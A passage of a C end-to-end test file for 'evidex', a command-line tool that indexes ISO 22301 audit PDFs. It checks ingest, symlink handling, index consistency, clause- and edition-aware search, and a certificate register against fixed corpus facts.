/* test-e2e.c - end-to-end: the evidex program on corpus/ and on ../shared/corpus-external.
 *
 * Runs build/evidex as a user would (no shell: argv vectors), in temporary index
 * folders, and asserts exact answers: paths, pages, clauses, passages, counts.
 */
#include <check.h>
#include <glib.h>
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <string.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <stdlib.h>

#include "tests/corrupt.h"
#include <unistd.h>

#include "index/index.h"
#include "ingest/pdf.h"
#include "tests/fixture.h"

#define CORPUS EVX_SOURCE_DIR "/corpus"
#define EVIDENCE CORPUS "/pdf"   /* the sample evidence (corpus/src holds their sources) */
#define EXTERNAL EVX_SHARED_DIR "/corpus-external"

/* Facts of corpus/ (see corpus/README.md). */
#define CORPUS_PDFS "9"
#define STAGE2_BIA_PAGE 4
#define STAGE2_BIA_PHRASE "The business impact analysis covered 14 activities"
#define CERT2019_QUERY "\"MAC-BCMS-0487\""
#define CERT2012_QUERY "\"ACS 10472-BC\""
#define CERT2019_PASSAGES 3   /* passages of certificate-22301-2019.pdf citing its number */
#define CERT2012_PASSAGES 2

static char *tmp_dir;
static char *db;

static void
setup (void)
{
    tmp_dir = evx_test_tmpdir_new ("e2e");
    db = g_build_filename (tmp_dir, "db", NULL);
}

static void
teardown (void)
{
    evx_test_check_indexes (tmp_dir);
    evx_test_remove_tree (tmp_dir);
    g_clear_pointer (&tmp_dir, g_free);
    g_clear_pointer (&db, g_free);
}

/* Parses search JSON output; returns the root object (owned by *parser). */
static JsonObject *
parse_json (const char *text, JsonParser **parser)
{
    *parser = json_parser_new ();
    g_autoptr (GError) error = NULL;
    ck_assert_msg (json_parser_load_from_data (*parser, text, -1, &error), "bad JSON: %s\n%s",
                   error ? error->message : "", text);
    JsonNode *root = json_parser_get_root (*parser);
    ck_assert (JSON_NODE_HOLDS_OBJECT (root));
    return json_node_get_object (root);
}

static JsonObject *
hit (JsonObject *res, guint i)
{
    JsonArray *hits = json_object_get_array_member (res, "hits");
    ck_assert_uint_gt (json_array_get_length (hits), i);
    return json_array_get_object_element (hits, i);
}

static gboolean
has_clause (JsonObject *h, const char *id, const char *edition)
{
    JsonArray *a = json_object_get_array_member (h, "clauses");
    for (guint i = 0; i < json_array_get_length (a); i++) {
        JsonObject *c = json_array_get_object_element (a, i);
        if (strcmp (json_object_get_string_member (c, "id"), id) == 0
            && strcmp (json_object_get_string_member (c, "edition"), edition) == 0)
            return TRUE;
    }
    return FALSE;
}

static void
ingest_corpus (void)
{
    evx_test_run_result r = evx_test_run (db, "ingest", EVIDENCE, NULL);
    ck_assert_msg (r.status == 0, "ingest exit %d\n%s", r.status, r.err);
    evx_test_run_result_clear (&r);
}

/* ---- corpus/ -------------------------------------------------------------- */

static void copy_file (const char *from, const char *to, gint64 mtime);
static gint64 count_hits (const char *query, const char *path_suffix);

START_TEST (test_symlinks_out_of_the_roots)
{
    /* a link to a file elsewhere is not followed unless --follow-symlinks; a link to a
     * file inside the root is; with --follow-symlinks a link to a folder is walked and a
     * link back up is a loop, reported, and the run goes on */
    g_autofree char *root = g_build_filename (tmp_dir, "root", NULL);
    g_autofree char *elsewhere = g_build_filename (tmp_dir, "elsewhere", NULL);
    g_autofree char *sub = g_build_filename (root, "sub", NULL);
    ck_assert_int_eq (g_mkdir_with_parents (sub, 0700), 0);
    ck_assert_int_eq (g_mkdir (elsewhere, 0700), 0);
    g_autofree char *secret = g_build_filename (elsewhere, "secret.pdf", NULL);
    copy_file (CORPUS "/pdf/bc-policy.pdf", secret, 1700000000);
    g_autofree char *inside = g_build_filename (sub, "plan.pdf", NULL);
    copy_file (CORPUS "/pdf/bc-plan-excerpt.pdf", inside, 1700000000);
    g_autofree char *out_link = g_build_filename (root, "secret-link.pdf", NULL);
    g_autofree char *in_link = g_build_filename (root, "plan-link.pdf", NULL);
    g_autofree char *dir_link = g_build_filename (root, "elsewhere-link", NULL);
    g_autofree char *up_link = g_build_filename (sub, "up", NULL);
    ck_assert_int_eq (symlink (secret, out_link), 0);
    ck_assert_int_eq (symlink (inside, in_link), 0);
    ck_assert_int_eq (symlink (elsewhere, dir_link), 0);
    ck_assert_int_eq (symlink (root, up_link), 0);

    evx_test_run_result r = evx_test_run (db, "ingest", root, NULL);
    ck_assert_msg (r.status == 0, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "secret-link.pdf: symbolic link out of the given roots, not followed"),
                   "%s", r.err);
    ck_assert_msg (strstr (r.err, "elsewhere-link: symbolic link out of the given roots"), "%s", r.err);
    ck_assert_msg (strstr (r.err, "up: symbolic link to a folder, not followed"), "%s", r.err);
    ck_assert_msg (strstr (r.err, "5 files seen, 2 added, 0 updated, 0 moved, 0 removed, 0 unchanged, 3 skipped"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
    ck_assert_int_eq (count_hits ("policy", "/secret-link.pdf"), 0);

    g_autofree char *db2 = g_build_filename (tmp_dir, "db-follow", NULL);
    r = evx_test_run (db2, "ingest", "--follow-symlinks", root, NULL);
    ck_assert_msg (r.status == 0, "exit %d\n%s", r.status, r.err);
    ck_assert_msg (strstr (r.err, "up: symbolic link loop"), "%s", r.err);
    /* plan.pdf, plan-link.pdf, secret-link.pdf, elsewhere-link/secret.pdf; the loop skipped */
    ck_assert_msg (strstr (r.err, "5 files seen, 4 added, 0 updated, 0 moved, 0 removed, 0 unchanged, 1 skipped"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_check)
{
    /* its own index, damaged below (every other index is checked by the teardown) */
    g_autofree char *cdb = g_build_filename (tmp_dir, "db-check", NULL);
    evx_test_run_result r = evx_test_run (cdb, "ingest", EVIDENCE, NULL);
    ck_assert_int_eq (r.status, 0);
    evx_test_run_result_clear (&r);
    r = evx_test_run (cdb, "check", NULL);
    ck_assert_msg (r.status == 0, "%s%s", r.out, r.err);
    ck_assert_str_eq (r.out, "consistent: 9 files, 316 passages, 0 problems\n");
    evx_test_run_result_clear (&r);
    /* each kind of damage is found and named; the exit status is 1 */
    g_autofree char *plan = g_strconcat (EVIDENCE, "/bc-plan-excerpt.pdf", NULL);
    g_autofree char *policy = g_strconcat (EVIDENCE, "/bc-policy.pdf", NULL);
    g_autofree char *minutes = g_strconcat (EVIDENCE, "/management-review-minutes.pdf", NULL);
    ck_assert (evx_test_corrupt (cdb, plan, EVX_TEST_DROP_FILE_RECORD));
    ck_assert (evx_test_corrupt (cdb, policy, EVX_TEST_DROP_PASSAGE));
    ck_assert (evx_test_corrupt (cdb, minutes, EVX_TEST_BREAK_PASSAGE));
    r = evx_test_run (cdb, "check", "--format", "json", NULL);
    ck_assert_int_eq (r.status, 1);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    ck_assert_int_eq (json_object_get_int_member (res, "files"), 8);
    JsonArray *problems = json_object_get_array_member (res, "problems");
    g_autoptr (GString) kinds = g_string_new (NULL);
    for (guint i = 0; i < json_array_get_length (problems); i++) {
        JsonObject *p = json_array_get_object_element (problems, i);
        g_string_append_printf (kinds, "%s%s", i ? " " : "", json_object_get_string_member (p, "kind"));
        if (strcmp (json_object_get_string_member (p, "kind"), "missing-passages") == 0)
            ck_assert_str_eq (json_object_get_string_member (p, "path"), policy);
    }
    /* the plan's passages are orphans (one problem each), then the rest */
    ck_assert_msg (g_str_has_prefix (kinds->str, "orphan-passage orphan-passage"), "%s", kinds->str);
    ck_assert_msg (g_str_has_suffix (kinds->str, "passage-data missing-passages clause"), "%s",
                   kinds->str);
    evx_test_run_result_clear (&r);
    r = evx_test_run (cdb, "check", NULL);
    ck_assert_int_eq (r.status, 1);
    ck_assert_msg (strstr (r.out, "clause: clause term 2019:99.9 is not in the catalog\n"), "%s", r.out);
    ck_assert_msg (strstr (r.out, "\ninconsistent: 8 files, 315 passages, "), "%s", r.out);
    evx_test_run_result_clear (&r);
    evx_test_remove_tree (cdb);   /* not for the teardown's check */
}
END_TEST

START_TEST (test_jobs_give_the_same_index)
{
    /* one worker or three: the same documents, passages, scores and order */
    g_autofree char *db1 = g_build_filename (tmp_dir, "db-jobs-1", NULL);
    g_autofree char *db3 = g_build_filename (tmp_dir, "db-jobs-3", NULL);
    evx_test_run_result r1 = evx_test_run (db1, "ingest", "--jobs", "1", EVIDENCE, NULL);
    evx_test_run_result r3 = evx_test_run (db3, "ingest", "--jobs", "3", EVIDENCE, NULL);
    ck_assert_msg (r1.status == 0 && r3.status == 0, "%s\n%s", r1.err, r3.err);
    ck_assert_msg (strstr (r3.err, "9 files seen, 9 added"), "%s", r3.err);
    evx_test_run_result_clear (&r1);
    evx_test_run_result_clear (&r3);
    static const char *const queries[][2] = { { "business continuity", NULL },
                                              { "supplier", "--commitments" },
                                              { "clause:8.4", NULL } };
    for (guint q = 0; q < G_N_ELEMENTS (queries); q++) {
        r1 = evx_test_run (db1, "search", "--format", "json", "--limit", "50", queries[q][0],
                           queries[q][1], NULL);
        r3 = evx_test_run (db3, "search", "--format", "json", "--limit", "50", queries[q][0],
                           queries[q][1], NULL);
        ck_assert_msg (r1.status == 0 && strstr (r1.out, "\"rank\":2,"), "%s", r1.err);
        ck_assert_str_eq (r1.out, r3.out);
        evx_test_run_result_clear (&r1);
        evx_test_run_result_clear (&r3);
    }
    evx_test_run_result bad = evx_test_run (db1, "ingest", "--jobs", "0", EVIDENCE, NULL);
    ck_assert_int_eq (bad.status, 2);
    ck_assert_msg (strstr (bad.err, "--jobs must be between 1 and 64"), "%s", bad.err);
    evx_test_run_result_clear (&bad);
}
END_TEST

START_TEST (test_clause_822_on_its_page)
{
    ingest_corpus ();
    evx_test_run_result r = evx_test_run (db, "search", "--clause", "8.2.2", "--format", "json",
                               "business", "impact", "analysis", NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    JsonObject *h = hit (res, 0);
    ck_assert (g_str_has_suffix (json_object_get_string_member (h, "path"),
                                 "/corpus/pdf/stage2-audit-report.pdf"));
    ck_assert_int_eq (json_object_get_int_member (h, "page"), STAGE2_BIA_PAGE);
    ck_assert_msg (strstr (json_object_get_string_member (h, "text"), STAGE2_BIA_PHRASE),
                   "text: %s", json_object_get_string_member (h, "text"));
    ck_assert (has_clause (h, "8.2.2", "2019"));
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_json_shape)
{
    ingest_corpus ();
    evx_test_run_result r = evx_test_run (db, "search", "--format", "json", "--limit", "2", "nonconformity",
                               NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    ck_assert_str_eq (json_object_get_string_member (res, "query"), "nonconformity");
    ck_assert_int_ge (json_object_get_int_member (res, "total"), 2);
    JsonObject *h = hit (res, 0);
    static const char *const keys[] = { "rank", "score", "path", "title", "page", "page_label",
                                        "passage", "text", "snippet", "clauses" };
    for (size_t i = 0; i < G_N_ELEMENTS (keys); i++)
        ck_assert_msg (json_object_has_member (h, keys[i]), "hit lacks %s", keys[i]);
    ck_assert_int_eq (json_object_get_int_member (h, "rank"), 1);
    ck_assert_int_eq (json_object_get_int_member (hit (res, 1), "rank"), 2);
    ck_assert (g_path_is_absolute (json_object_get_string_member (h, "path")));
    ck_assert (strstr (json_object_get_string_member (h, "snippet"), "<mark>"));
    ck_assert (g_regex_match_simple ("^[0-9a-f]{16}-[0-9]+-[0-9]+$",
                                     json_object_get_string_member (h, "passage"), 0, 0));
    evx_test_run_result_clear (&r);
}
END_TEST

/* The clause entry @id of `clauses --format json` output. */
static JsonObject *
coverage_of (JsonObject *res, const char *id)
{
    JsonArray *a = json_object_get_array_member (res, "clauses");
    for (guint i = 0; i < json_array_get_length (a); i++) {
        JsonObject *c = json_array_get_object_element (a, i);
        if (strcmp (json_object_get_string_member (c, "id"), id) == 0)
            return c;
    }
    ck_abort_msg ("no clause %s in the coverage", id);
    return NULL;
}

START_TEST (test_clauses_coverage)
{
    ingest_corpus ();
    evx_test_run_result r = evx_test_run (db, "clauses", "--format", "json", NULL);
    ck_assert_msg (r.status == 0, "clauses exit %d\n%s", r.status, r.err);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    ck_assert_str_eq (json_object_get_string_member (res, "edition"), "2019");
    ck_assert_uint_eq (json_array_get_length (json_object_get_array_member (res, "clauses")), 67);
    /* real counts where the corpus has evidence ... */
    JsonObject *bia = coverage_of (res, "8.2.2");
    ck_assert_str_eq (json_object_get_string_member (bia, "title"), "Business impact analysis");
    ck_assert_str_eq (json_object_get_string_member (bia, "parent"), "8.2");
    ck_assert_int_eq (json_object_get_int_member (bia, "passages"), 15);
    ck_assert_int_eq (json_object_get_int_member (bia, "documents"), 4);
    ck_assert_int_eq (json_object_get_int_member (coverage_of (res, "10.1"), "documents"), 4);
    /* a parent counts its sub-clauses */
    ck_assert_int_ge (json_object_get_int_member (coverage_of (res, "8"), "passages"),
                      json_object_get_int_member (bia, "passages"));
    ck_assert (json_node_is_null (json_object_get_member (coverage_of (res, "8"), "parent")));
    /* ... and zeros where it has none */
    ck_assert_int_eq (json_object_get_int_member (coverage_of (res, "1"), "passages"), 0);
    ck_assert_int_eq (json_object_get_int_member (coverage_of (res, "6.1.2"), "documents"), 0);
    evx_test_run_result_clear (&r);

    /* 2012: its own numbers and titles; 8.5 counts the same passages as 2019 8.5 */
    r = evx_test_run (db, "clauses", "--edition", "2012", "--format", "json", NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser2 = NULL;
    JsonObject *res2012 = parse_json (r.out, &parser2);
    ck_assert_str_eq (json_object_get_string_member (res2012, "edition"), "2012");
    ck_assert_uint_eq (json_array_get_length (json_object_get_array_member (res2012, "clauses")),
                       55);
    ck_assert_str_eq (json_object_get_string_member (coverage_of (res2012, "8.5"), "title"),
                      "Exercising and testing");
    ck_assert_int_eq (json_object_get_int_member (coverage_of (res2012, "8.5"), "passages"),
                      json_object_get_int_member (coverage_of (res, "8.5"), "passages"));
    evx_test_run_result_clear (&r);

    /* text output marks the clauses without evidence */
    r = evx_test_run (db, "clauses", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (g_regex_match_simple ("^1 +0 +0  Scope   <- no evidence$", r.out,
                                         G_REGEX_MULTILINE, 0), "%s", r.out);
    ck_assert (g_regex_match_simple ("^8\\.2\\.2 +15 +4 +Business impact analysis$", r.out,
                                     G_REGEX_MULTILINE, 0));
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_search_by_edition)
{
    ingest_corpus ();
    /* 9.1.2 exists only in 2012 */
    evx_test_run_result r = evx_test_run (db, "search", "--clause", "9.1.2", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert (strstr (r.err, "'9.1.2' is no clause of ISO 22301:2019"));
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--edition", "2012", "--clause", "9.1.2", "--format", "json",
                    NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    ck_assert_int_eq (json_object_get_int_member (res, "total"), 4);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--edition", "2016", "--clause", "8.5", NULL);
    ck_assert_int_eq (r.status, 2);
    evx_test_run_result_clear (&r);
    /* clause fields inside the query are checked like --clause */
    r = evx_test_run (db, "search", "clause:9.1.2", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert (strstr (r.err, "'9.1.2' is no clause of ISO 22301:2019"));
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "clause2015:8.2", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert (strstr (r.err, "unknown field 'clause2015:'"));
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--format", "json", "clause2012:9.1.2", NULL);
    ck_assert_int_eq (r.status, 0);
    evx_test_run_result_clear (&r);
    /* --clause as typed: full-width digits, spaces, a final dot; also under the C locale
     * (a new machine's default), where GOption would refuse to convert it */
    g_autofree char *saved = g_strdup (g_getenv ("LC_ALL"));
    g_setenv ("LC_ALL", "C", TRUE);
    r = evx_test_run (db, "search", "--clause", " \xEF\xBC\x98.\xEF\xBC\x92.\xEF\xBC\x92. ",
                    "--limit", "1", NULL);
    if (saved)
        g_setenv ("LC_ALL", saved, TRUE);
    else
        g_unsetenv ("LC_ALL");
    ck_assert_msg (r.status == 0, "%s", r.err);
    ck_assert (strstr (r.out, "1 of 15 matching passages shown."));
    evx_test_run_result_clear (&r);
    /* the total is exact, whatever the limit; clause fields of any edition combine
     * the same way (a passage of any of them) */
    r = evx_test_run (db, "search", "--limit", "1", "clause:8.2.2 clause2012:8.2.2", NULL);
    ck_assert_msg (strstr (r.out, "1 of 15 matching passages shown."), "%s", r.out);
    evx_test_run_result_clear (&r);
    /* after --offset, the line counts as the hits are numbered ("1 of 15" under hit 3) */
    r = evx_test_run (db, "search", "--offset", "2", "--limit", "2", "clause:8.2.2", NULL);
    ck_assert_msg (g_str_has_prefix (r.out, "3. ") && strstr (r.out, "\n4. ")
                       && strstr (r.out, "3 to 4 of 15 matching passages shown."),
                   "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--limit", "1", "clause:8.2.2 clause:9.2", NULL);
    g_autofree char *either = g_strdup (r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--limit", "1", "clause:8.2.2 clause2019:9.2", NULL);
    ck_assert_str_eq (strrchr (g_strchomp (r.out), '\n'), strrchr (g_strchomp (either), '\n'));
    evx_test_run_result_clear (&r);

    /* each clause of a hit says why, how sure, and its other-edition equivalent */
    r = evx_test_run (db, "search", "--format", "json", "--limit", "1", "clause:8.2.2", "MTPD",
                    NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser2 = NULL;
    JsonObject *h = hit (parse_json (r.out, &parser2), 0);
    ck_assert_int_eq (json_object_get_int_member (h, "page"), STAGE2_BIA_PAGE);
    JsonObject *c = json_array_get_object_element (json_object_get_array_member (h, "clauses"), 0);
    ck_assert_str_eq (json_object_get_string_member (c, "id"), "8.2.2");
    ck_assert_str_eq (json_object_get_string_member (c, "reason"), "heading");
    ck_assert_double_eq_tol (json_object_get_double_member (c, "confidence"), 0.81, 1e-9);
    ck_assert_str_eq (json_object_get_string_member (c, "equivalent"), "8.2.2");
    ck_assert_uint_eq (json_array_get_length (json_object_get_array_member (c, "matched")), 0);
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_doc_types)
{
    ingest_corpus ();
    /* --type keeps the two certificates' passages only */
    evx_test_run_result r = evx_test_run (db, "search", "--format", "json", "--limit", "1000",
                                          "--type", "certificate", NULL);
    ck_assert_int_eq (r.status, 0);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    JsonArray *hits = json_object_get_array_member (res, "hits");
    ck_assert_int_eq (json_object_get_int_member (res, "total"), 34);
    for (guint i = 0; i < json_array_get_length (hits); i++) {
        JsonObject *h = json_array_get_object_element (hits, i);
        const char *path = json_object_get_string_member (h, "path");
        ck_assert_msg (g_str_has_suffix (path, "/certificate-22301-2019.pdf")
                           || g_str_has_suffix (path, "/certificate-22301-2012.pdf"),
                       "%s", path);
        ck_assert_str_eq (json_object_get_string_member (h, "doc_type"), "certificate");
    }
    evx_test_run_result_clear (&r);
    /* type:KIND in the query */
    g_clear_object (&parser);
    r = evx_test_run (db, "search", "--format", "json", "type:policy", "review", NULL);
    ck_assert_int_eq (r.status, 0);
    res = parse_json (r.out, &parser);
    ck_assert (g_str_has_suffix (json_object_get_string_member (hit (res, 0), "path"),
                                 "/bc-policy.pdf"));
    ck_assert_str_eq (json_object_get_string_member (hit (res, 0), "doc_type"), "policy");
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "search", "--type", "memo", "review", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "--type memo: the kinds are certificate, audit-report, policy, "
                                  "plan, procedure and other"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

START_TEST (test_certs)
{
    ingest_corpus ();
    /* the register, sorted by expiry date, with the statuses of a fixed day */
    evx_test_run_result r = evx_test_run (db, "certs", "--as-of", "2027-07-01", "--format", "json",
                                          NULL);
    ck_assert_msg (r.status == 0, "%s", r.err);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    ck_assert_str_eq (json_object_get_string_member (res, "as_of"), "2027-07-01");
    JsonArray *certs = json_object_get_array_member (res, "certificates");
    ck_assert_uint_eq (json_array_get_length (certs), 2);
    static const char *const expected[2][11] = {
        { "/certificate-22301-2012.pdf", "Halden Freight Services Ltd", "ACS 10472-BC", "ISO 22301",
          "2012", "Albion Certification Services Ltd", "2013-06-18", "2016-06-24", "2019-06-23",
          "the provision of freight forwarding and customs brokerage services from Halden House, "
          "Felixstowe, and contract warehousing at Orwell Crossing Distribution Centre, Ipswich "
          "IP10 0WE.",
          "expired" },
        { "/certificate-22301-2019.pdf", "Halden Freight Services Ltd", "MAC-BCMS-0487", "ISO 22301",
          "2019", "Meridian Assurance Certification Ltd", "2024-09-02", "2024-09-02", "2027-09-01",
          NULL, "expiring" },
    };
    static const char *const names[] = { "path", "holder", "number", "standard", "edition", "issuer",
                                         "first_issued", "issued", "expires", "scope", "status" };
    for (guint i = 0; i < 2; i++) {
        JsonObject *c = json_array_get_object_element (certs, i);
        ck_assert (g_str_has_suffix (json_object_get_string_member (c, "path"), expected[i][0]));
        for (guint f = 1; f < G_N_ELEMENTS (names); f++)
            if (expected[i][f])
                ck_assert_str_eq (json_object_get_string_member (c, names[f]), expected[i][f]);
        JsonArray *sites = json_object_get_array_member (c, "sites");
        ck_assert_uint_eq (json_array_get_length (sites), i == 0 ? 1 : 4);
        ck_assert_str_eq (json_array_get_string_element (sites, i == 0 ? 0 : 1),
                          i == 0 ? "Halden House, 3 Dockside Way, Felixstowe, Suffolk IP11 3XP"
                                 : "Orwell Crossing DC2, Ipswich IP10 0WE, UK");
    }
    evx_test_run_result_clear (&r);
    /* --expiring 30: two months before expiry the 2019 certificate is still valid */
    r = evx_test_run (db, "certs", "--as-of", "2027-07-01", "--expiring", "30", "--format", "csv",
                      NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (g_str_has_prefix (r.out, "path,holder,number,standard,edition,issuer,"
                                            "first_issued,issued,expires,scope,sites,status\r\n"),
                   "%s", r.out);
    ck_assert_msg (strstr (r.out, ",2027-09-01,\"the provision of international freight forwarding, "),
                   "%s", r.out);
    ck_assert_msg (g_str_has_suffix (r.out, ",\"Halden House, Felixstowe IP11 3XP, UK (head office); "
                                             "Orwell Crossing DC2, Ipswich IP10 0WE, UK; Calder Valley "
                                             "Hub, Knottingley WF11 8SQ, UK; Halden Freight Services "
                                             "B.V., 3089 JH Rotterdam, NL\",valid\r\n"),
                   "%s", r.out);
    evx_test_run_result_clear (&r);
    /* before a certificate was issued it is not yet valid (both were "valid" in 2010) */
    r = evx_test_run (db, "certs", "--as-of", "2020-01-01", "--format", "csv", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (strstr (r.out, ",2019-06-23,") && strstr (r.out, "\",expired\r\n"), "%s", r.out);
    ck_assert_msg (strstr (r.out, "/certificate-22301-2019.pdf,") && g_str_has_suffix (r.out, "\",not-yet-valid\r\n"),
                   "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "certs", "--as-of", "2010-01-01", NULL);
    ck_assert_int_eq (r.status, 0);
    ck_assert_msg (strstr (r.out, "not-yet-valid expires 2019-06-23  ACS 10472-BC")
                   && strstr (r.out, "not-yet-valid expires 2027-09-01  MAC-BCMS-0487")
                   && !strstr (r.out, "valid         "), "%s", r.out);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "certs", "--as-of", "1 July 2027", NULL);
    ck_assert_int_eq (r.status, 2);
    ck_assert_msg (strstr (r.err, "--as-of '1 July 2027' is not a date YYYY-MM-DD"), "%s", r.err);
    evx_test_run_result_clear (&r);
    /* any day of the calendar is a date (9999-12-31, "how stands it at the end", was
     * refused: the certificate reader's 1900-2200 window applied); 30 February is not */
    r = evx_test_run (db, "certs", "--as-of", "9999-12-31", NULL);
    ck_assert_msg (r.status == 0 && strstr (r.out, "Certificates as of 9999-12-31 (2):\n")
                   && strstr (r.out, "expired       expires 2027-09-01  MAC-BCMS-0487"),
                   "%s%s", r.out, r.err);
    evx_test_run_result_clear (&r);
    r = evx_test_run (db, "certs", "--as-of", "2024-02-30", NULL);
    ck_assert_msg (r.status == 2 && strstr (r.err, "--as-of '2024-02-30' is not a date YYYY-MM-DD"),
                   "%s", r.err);
    evx_test_run_result_clear (&r);
}
END_TEST

static int
compare_strings (gconstpointer a, gconstpointer b)
{
    return strcmp (*(char *const *) a, *(char *const *) b);
}

/* The files (base names) of the hits of a JSON search, sorted, joined by spaces. */
static char *
hit_files (const char *query)
{
    evx_test_run_result r = evx_test_run (db, "search", "--format", "json", "--limit", "1000", query,
                                          NULL);
    ck_assert_msg (r.status == 0, "%s: %s", query, r.err);
    g_autoptr (JsonParser) parser = NULL;
    JsonObject *res = parse_json (r.out, &parser);
    ck_assert_int_eq (json_object_get_int_member (res, "schema_version"), 2);
    JsonArray *hits = json_object_get_array_member (res, "hits");
    g_autoptr (GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
    for (guint i = 0; i < json_array_get_length (hits); i++) {
        char *base = g_path_get_basename (
            json_object_get_string_member (json_array_get_object_element (hits, i), "path"));
        gboolean seen = FALSE;
        for (guint j = 0; j < names->len && !seen; j++)
            seen = strcmp (g_ptr_array_index (names, j), base) == 0;
        if (seen)
            g_free (base);
        else
            g_ptr_array_add (names, base);
    }
    g_ptr_array_sort (names, compare_strings);
    g_ptr_array_add (names, NULL);
    evx_test_run_result_clear (&r);
    return g_strjoinv (" ", (char **) names->pdata);
}

/* `search -- QUERY` exits 2 and its stderr holds @err. */
static void
assert_search_refused (const char *query, const char *err)
{
    evx_test_run_result r = evx_test_run (db, "search", "--", query, NULL);
    ck_assert_msg (r.status == 2, "%s: exit %d", query, r.status);
    ck_assert_msg (strstr (r.err, err), "%s: %s", query, r.err);
    evx_test_run_result_clear (&r);
}

START_TEST (test_query_fields_and_output)
{
    ingest_corpus ();
    /* edition:, date: (a certificate's issue date, else the metadata's creation date),
     * path: and type: in the query */
    static const struct {
        const char *query, *files;
    } fields[] = {
        { "edition:2012", "certificate-22301-2012.pdf" },
        { "date:2016-01-01..2016-12-31", "certificate-22301-2012.pdf" },
        { "type:certificate date:2024-01-01..2024-12-31", "certificate-22301-2019.pdf" },
        /* a year, a month or a day alone, and ranges of them (they were read as words
         * and matched nothing); the 2019 certificate was issued on 2024-09-02 */
        { "date:2016", "certificate-22301-2012.pdf" },
        { "type:certificate Date:2024-09", "certificate-22301-2019.pdf" },
        { "type:certificate date:2024-08", "" },
        { "type:certificate date:2016..2024", "certificate-22301-2012.pdf certificate-22301-2019.pdf" },
        { "type:certificate date:..2023", "certificate-22301-2012.pdf" },
        /* field names with a capital or in capitals (they used to match nothing) */
        { "TYPE:certificate Date:2024-01-01..2024-12-31", "certificate-22301-2019.pdf" },
        { "Edition:2012", "certificate-22301-2012.pdf" },
        /* kinds in any case; values in curly quotes; field-like words inside a phrase
         * are the phrase's (found by a second attack: refused before) */
        { "TYPE:Certificate date:2016", "certificate-22301-2012.pdf" },
        { "type:\xE2\x80\x9C" "certificate\xE2\x80\x9D edition:\xE2\x80\x9C" "2012\xE2\x80\x9D",
          "certificate-22301-2012.pdf" },
        { "\"Document Type: plan\"", "" },
    };
    for (guint i = 0; i < G_N_ELEMENTS (fields); i++) {
        g_autofree char *files = hit_files (fields[i].query);
        ck_assert_msg (strcmp (files, fields[i].files) == 0, "%s: %s", fields[i].query, files);
    }
    /* dots between words are not a range (they were refused as an unknown range); bad
     * dates and dates in other forms are named */
    g_autofree char *dots = hit_files ("business ... impact");
    g_autofree char *no_dots = hit_files ("business impact");
    ck_assert_str_eq (dots, no_dots);
    ck_assert_str_ne (dots, "");
    /* a bad --offset named --limit too */
    evx_test_run_result lr = evx_test_run (db, "search", "--offset", "-1", "plan", NULL);
    ck_assert_msg (lr.status == 2 && strstr (lr.err, "--offset -1: it must be 0 or more")
                   && !strstr (lr.err, "--limit"), "%s", lr.err);
    evx_test_run_result_clear (&lr);
    lr = evx_test_run (db, "search", "--limit", "10001", "plan", NULL);
    ck_assert_msg (lr.status == 2 && strstr (lr.err, "--limit 10001: it must be 1 to 10000"), "%s",
                   lr.err);
    evx_test_run_result_clear (&lr);
    assert_search_refused ("date:24-01-01..24-12-31", "date:24-01-01..24-12-31: a date is YYYY");
    assert_search_refused ("date:01/02/2024", "date:01/02/2024: a date is YYYY");
    assert_search_refused ("date:2025..2024", "date:2025..2024: the range ends before it starts");
    assert_search_refused ("date:2024-02-30", "date:2024-02-30: a date is YYYY, YYYY-MM or "
                                              "YYYY-MM-DD; a range is two of them joined by '..'");
    g_autofree char *policy = g_strconcat ("path:", EVX_SOURCE_DIR, "/corpus/pdf/bc-policy.pdf review",
                                           NULL);
    g_autofree char *p = hit_files (policy);
    ck_assert_str_eq (p, "bc-policy.pdf");
    /* NEAR and wildcards through Xapian's QueryParser */
    g_autofree char *near = hit_files ("satisfactory NEAR/3 audits");
    ck_assert_str_eq (near, "certificate-22301-2019.pdf");
    g_autofree char *wild = hit_files ("surveil* type:certificate");
    ck_assert_str_eq (wild, "certificate-22301-2012.pdf certificate-22301-2019.pdf");
